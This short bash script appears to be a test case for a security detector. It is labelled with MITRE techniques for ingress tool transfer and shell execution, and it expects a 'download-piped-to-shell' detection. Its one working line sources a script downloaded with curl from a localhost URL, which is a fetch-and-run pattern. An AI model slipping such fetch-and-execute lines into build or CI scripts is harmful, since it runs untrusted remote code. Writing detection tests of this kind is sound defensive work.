#!/bin/bash
# technique: T1105 Ingress Tool Transfer; T1059.004 Command and Scripting Interpreter: Unix Shell
# reproduces: `source <(curl -s URL)` in CI scripts (environment bootstrap one-liners such as SDKMAN's and many vendors' "source this" installers, copied by compromised build steps): the download is read as part of the running script
# expect: download-piped-to-shell ^bash$
# exec-borne: no
#
# The running shell reads the download through /dev/fd/N from a process
# substitution; nothing new is executed.
set -u

BOOTSTRAP="http://127.0.0.1:${BW_ATTACK_PORT:?}/install.sh"
if true; then
	source <(curl -fsS --connect-timeout 5 "$BOOTSTRAP")
fi
